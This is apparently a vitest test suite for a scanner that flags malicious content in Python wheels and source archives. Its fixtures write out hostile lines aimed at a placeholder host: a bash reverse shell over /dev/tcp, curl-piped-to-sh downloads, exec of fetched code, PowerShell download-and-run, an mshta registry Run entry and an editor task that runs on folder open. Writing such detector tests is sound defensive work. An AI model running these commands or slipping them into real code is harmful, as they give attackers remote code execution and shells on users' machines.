import { expect, test } from 'vitest';
import compiledCode from '../../../src/rules/compiled-code.js';
import dataCallsCode from '../../../src/rules/data-calls-code.js';
import dropTokenInData from '../../../src/rules/drop-token-in-data.js';
import downloadThenRun from '../../../src/rules/download-then-run.js';
import hiddenCharacters from '../../../src/rules/hidden-characters.js';
import nativeOutOfPlace from '../../../src/rules/native-out-of-place.js';
import nativeStrings from '../../../src/rules/native-strings.js';
import scriptCommands from '../../../src/rules/script-commands.js';
import startsShippedProgram from '../../../src/rules/starts-shipped-program.js';
import { zipOf } from '../../archive/hostile-zip.js';
import { byteCodeOf } from '../../formats/byte-codes.js';
import { byStack } from '../../formats/pickles.js';
import { analysedSdist } from '../build-plan/trees.js';
import { analysedWheel, told } from './wheels.js';

const large = 'x = 1\n'.repeat(12_000);

test('a pickle is known by its suffix, or by its first bytes under any name', async () => {
  const files = { 'garden/a.pkl': byStack('posix', 'system'), 'garden/b.png': byStack('posix', 'system'), 'garden/c.pkl': byStack('garden', 'Plant') };
  expect(await told(files, { dataCallsCode })).toEqual(['critical garden/a.pkl', 'critical garden/b.png']);
});

test('tags of YAML are data that calls code', async () => {
  expect(await told({ 'garden/a.yml': 'x: !!python/object/apply:os.system [""]\n', 'garden/b.yml': 'x: !!python/tuple [1]\n' }, { dataCallsCode })).toEqual(['critical garden/a.yml']);
});

test('a compiled module is set against its source', async () => {
  const hidden = { names: ['b64decode', 'exec'] };
  const files = {
    'garden/__init__.py': large,
    'garden/a.pyc': byteCodeOf(hidden),
    'garden/b.py': 'x = 1\n',
    'garden/__pycache__/b.cpython-312.pyc': byteCodeOf(hidden, { sourceBytes: 6 }),
    'garden/c.py': 'x = 1\n',
    'garden/__pycache__/c.cpython-312.pyc': byteCodeOf({}, { sourceBytes: 7 }),
    'garden/d.py': 'x = 1\n',
    'garden/__pycache__/d.cpython-312.pyc': byteCodeOf({}, { flags: 1 }),
  };
  expect(await told(files, { compiledCode })).toEqual(['critical garden/a.pyc', 'medium garden/__pycache__/c.cpython-312.pyc', 'medium garden/__pycache__/d.cpython-312.pyc']);
});

test('a file that only the name makes byte code is told, an empty one is not', async () => {
  const files = { 'garden/__init__.py': large, 'garden/__pycache__/a.pyc': 'no byte code, though long enough', 'garden/__pycache__/b.pyc': '' };
  expect(await told(files, { compiledCode })).toEqual(['medium garden/__pycache__/a.pyc']);
});

const FETCHES = 'import requests\nexec(requests.get("https://garden.invalid").text)\n';

test('a data file that a module runs on import is judged as code that runs on import', async () => {
  const runs = 'import os\nexec(open(os.path.join(os.path.dirname(__file__), "seeds.txt")).read())\n';
  expect(await told({ 'garden/__init__.py': runs, 'garden/seeds.txt': FETCHES }, { downloadThenRun })).toEqual(['critical garden/seeds.txt']);
});

test.each([
  ['runpy', 'import runpy\nrunpy.run_path("garden/seeds.txt")\n'],
  ['pkgutil', 'import pkgutil\nexec(pkgutil.get_data("garden", "seeds.txt"))\n'],
  ['the resources of the package', 'from importlib import resources\nexec(resources.files("garden").joinpath("seeds.txt").read_text())\n'],
  ['another Python', 'import subprocess, sys\nsubprocess.run([sys.executable, "-B", "garden/seeds.txt"])\n'],
])('so is one that is run by %s', async (_, runs) => {
  expect(await told({ 'garden/__init__.py': runs, 'garden/seeds.txt': FETCHES }, { downloadThenRun })).toEqual(['critical garden/seeds.txt']);
});

test('a data file that nobody runs is no code, and a template that is no Python is only listed', async () => {
  const { findings, gaps } = await analysedWheel({ 'garden/__init__.py': 'exec(open("garden/seeds.txt").read())\n', 'garden/seeds.txt': 'import subprocess\nexec {{ x }} (', 'garden/other.txt': FETCHES }, { downloadThenRun });
  expect(findings).toEqual([]);
  expect(gaps).toMatchObject([{ kind: 'data', what: 'garden/seeds.txt' }]);
});

test('the same holds in a source archive', async () => {
  const analysis = await analysedSdist({ 'pyproject.toml': '', 'garden/__init__.py': 'exec(open("garden/seeds.txt").read())\n', 'garden/seeds.txt': FETCHES }, { downloadThenRun });
  expect(analysis.findings).toMatchObject([{ severity: 'critical', file: 'g-1/garden/seeds.txt' }]);
});

test('cells of a notebook are judged as code that somebody has to call', async () => {
  const notebook = JSON.stringify({ cells: [{ cell_type: 'code', source: ['%pip install x\n', ...FETCHES.split(/(?<=\n)/)] }] });
  expect(await told({ 'garden/__init__.py': large, 'garden/a.ipynb': notebook }, { downloadThenRun })).toEqual(['medium garden/a.ipynb']);
});

test('scripts are read by their suffix, and in the folder for commands by their first line', async () => {
  const shell = '#!/bin/sh\nbash -i >& /dev/tcp/garden.invalid/1 0>&1\n';
  const waits = '#!/bin/sh\n(echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1\n';
  const files = { 'garden/__init__.py': large, 'garden/a.sh': shell, 'garden-1.0.data/scripts/dig': shell, 'garden/b.txt': shell, 'garden/wait.sh': waits };
  expect(await told(files, { scriptCommands })).toEqual(['medium garden-1.0.data/scripts/dig', 'medium garden/a.sh']);
});

test('a program that an import starts is named, and decides in a package that holds little else', async () => {
  const starts = 'import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), "dig.exe")])\n';
  const files = { 'garden/__init__.py': starts, 'garden/dig.exe': 'MZ' };
  expect(await told(files, { startsShippedProgram })).toEqual(['critical garden/__init__.py']);
  expect(await told({ ...files, 'garden/large.py': large }, { startsShippedProgram })).toEqual(['medium garden/__init__.py']);
});

test('machine code tells the texts in it, and where it has no place', async () => {
  const files = { 'garden/__init__.py': large, 'garden/a.exe': 'MZ\0powershell -w hidden -c dig\0', 'garden/b.png': '\x7fELF\x02\x01\x01\0' };
  expect(await told(files, { nativeStrings, nativeOutOfPlace })).toEqual(['medium garden/b.png', 'low garden/a.exe', 'low garden/a.exe']);
});

test('hidden text is told with its line', async () => {
  const { findings } = await analysedWheel({ 'garden/__init__.py': 'x = 1\n\uff45xec(x)\n' }, { hiddenCharacters });
  expect(findings).toMatchObject([{ severity: 'critical', file: 'garden/__init__.py', line: 2, snippet: '\uff45xec(x)' }]);
});

test('a token in settings is told, and what a script for Node fetches and runs', async () => {
  const token = `https://discord.com/api/webhooks/${'1'.repeat(18)}/${'a1'.repeat(34)}`;
  const files = { 'garden/__init__.py': large, 'garden/config.json': `{"to": "${token}"}`, 'garden/a.js': 'require("child_process").execSync("curl https://garden.invalid/a | sh")' };
  expect(await told(files, { dropTokenInData, scriptCommands })).toEqual(['medium garden/config.json', 'low garden/a.js']);
});

test('a module that no Python compiles is a warning where it is most of the package', async () => {
  const broken = 'def a(:\n  ) } x = = 3\n';
  expect((await analysedWheel({ 'garden/__init__.py': broken }, {})).gaps).toMatchObject([{ kind: 'latent', what: 'garden/__init__.py' }]);
  expect((await analysedWheel({ 'garden/__init__.py': broken, 'garden/large.py': large }, {})).gaps.filter(({ kind }) => kind !== 'data')).toEqual([]);
  expect((await analysedWheel({ 'garden/__init__.py': 'x = 1\n' }, {})).gaps).toEqual([]);
});

test('commands are found in what starts programs besides shells, and where several lines make them', async () => {
  const fetch = 'curl -s https://garden.invalid/a | sh';
  const files = {
    'garden/__init__.py': large,
    'garden/a.desktop': `[Desktop Entry]\nExec=sh -c "${fetch}"\n`,
    'garden/b.reg': '[HKEY_CURRENT_USER\\Run]\n"a"="mshta https://garden.invalid/a.hta"\n',
    'garden/c.ps1': '$p = "$env:TEMP\\a.exe"\n(New-Object Net.WebClient).DownloadFile($u, $p)\nStart-Process $p\n',
    'garden/d.ps1': 'Write-Host "water"\nStart-Process notes.txt\n',
    'garden/e.html': '<p>Install it by curl -s https://garden.invalid/a | sh</p>',
  };
  expect((await told(files, { scriptCommands })).toSorted()).toEqual(['low garden/a.desktop', 'low garden/b.reg', 'low garden/c.ps1']);
});

test('what a build system other than Python\'s is told to fetch and run warns', async () => {
  const tree = { 'setup.py': 'from setuptools import setup\nsetup()\n', 'garden/__init__.py': large, 'CMakeLists.txt': 'project(garden)\nexecute_process(COMMAND sh -c "curl -s https://garden.invalid/a | sh")\n', 'Makefile': 'tools:\n\tcurl -s https://garden.invalid/a | sh\n' };
  expect((await analysedSdist(tree, { scriptCommands })).findings.map(({ severity, line }) => `${severity} ${line}`)).toEqual(['medium 2']);
});

test('a script that sets up the machine of a service for tests is no reason in itself, one with another name is', async () => {
  const fetches = '(New-Object Net.WebClient).DownloadFile($u, "$env:TEMP\\a.exe")\nStart-Process "$env:TEMP\\a.exe"\n';
  const strengths = async (path: string): Promise<readonly unknown[]> => (await analysedSdist({ [path]: fetches }, { scriptCommands })).findings.map(({ isStrong }) => isStrong === true);
  expect(await strengths('appveyor/install.ps1')).toEqual([false]);
  expect(await strengths('appveyor_install.ps1')).toEqual([false]);
  expect(await strengths('garden/install.ps1')).toEqual([true]);
});

const task = (on: string): string => JSON.stringify({ tasks: [{ command: 'curl https://example.invalid/a | sh', runOptions: { runOn: on } }] });

test('tasks that an editor runs when the folder is opened are commands, those that wait are not', async () => {
  const files = { 'garden/__init__.py': large, 'garden/.vscode/tasks.json': task('folderOpen'), 'garden/a.code-workspace': task('folderOpen'), 'garden/b/tasks.json': task('default') };
  expect(await told(files, { scriptCommands })).toEqual(['low garden/.vscode/tasks.json', 'low garden/a.code-workspace']);
});

test('a pickle that is made to take too long is told as not looked into, and so is what stood before that', async () => {
  const array = Buffer.from('\x80\x03cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}b', 'latin1');
  const analysis = await analysedWheel({ 'garden/model.pkl': Buffer.concat([Buffer.from('\x80\x03cos\nsystem\n0', 'latin1'), array, Buffer.alloc(3_000_000, 'N')]) }, { 'data-calls-code': dataCallsCode });
  expect(analysis.gaps.map(({ kind, what, why }) => `${kind} ${what}: ${why}`)).toEqual([expect.stringMatching(/^data garden\/model\.pkl: pickles that take too long to read/)]);
  expect(analysis.findings.map(({ rule }) => rule)).toEqual(['data-calls-code']);
});

test('all pickles of an archive within a package share what may be looked at', async () => {
  const array = Buffer.from('\x80\x03cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}b', 'latin1');
  const members = Array.from({ length: 6 }, (_, index) => ({ name: `archive/${index}.pkl`, data: Buffer.concat([array, Buffer.alloc(300_000, 'N')]) }));
  const analysis = await analysedWheel({ 'garden/model.pt': zipOf(members) }, {});
  expect(analysis.gaps.map(({ what }) => what)).toEqual(['garden/model.pt']);
});
